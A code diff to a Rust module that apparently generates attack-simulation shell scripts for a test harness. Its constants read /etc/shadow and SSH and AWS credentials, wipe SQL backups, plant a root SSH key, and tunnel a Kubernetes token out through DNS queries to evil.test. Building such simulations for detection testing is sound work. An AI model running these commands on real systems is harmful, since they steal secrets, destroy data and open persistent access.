@@ -2,7 +2,7 @@
 //!
 //! In: nothing. Out: scripts for the shell, ports. Never: a server's name.
 
-/// Where programs are fetched from, where loot goes, where the shell calls home, the pool, the tunnel's other end.
+/// Where programs are fetched from, where loot goes, where the shell calls home, the pool.
 pub(super) const FETCH: u16 = 4445;
 pub(super) const LOOT: u16 = 4446;
 pub(super) const SHELL: u16 = 4443;
@@ -32,7 +32,7 @@ ls -la /root /etc/ssl/private ~/.ssh ~/.aws 2>/dev/null; cat /etc/shadow 2>/dev/
 
 /// The database's backups, as the harness put them there: written over, then removed.
 pub(super) const DESTROY: &str = "cd /var/backups; n=0
-for f in *.sql; do head -c 65536 /dev/zero >$f; rm -f $f; n=$((n + 1)); done; echo destroyed $n";
+for f in *.sql; do head -c 65536 /dev/zero >$f && rm $f && n=$((n + 1)); done; echo destroyed $n";
 
 /// A key of the attacker's for root; taken away again.
 pub(super) const PLANT_KEY: &str = "umask 077; mkdir -p /root/.ssh
@@ -51,7 +51,8 @@ echo preloaded $line; rm -f /etc/ld.so.preload";
 pub(super) const TUNNEL: &str =
     "exec 3<>/dev/udp/127.0.0.1/53; token=$(base64 -w 40 </var/run/secrets/kubernetes.io/serviceaccount/token)
 n=0; while [ $n -lt 30 ]; do for part in $token; do
-printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\%03o%s\\4evil\\4test\\0\\0\\20\\0\\1' ${#part} $part >&3; n=$((n + 1))
+printf -v length '\\\\%03o' ${#part}
+printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0%b%s\\4evil\\4test\\0\\0\\20\\0\\1' $length $part >&3; n=$((n + 1))
 done; done; echo tunnelled $n";
 
 /// A kilobyte a second, for ten seconds.
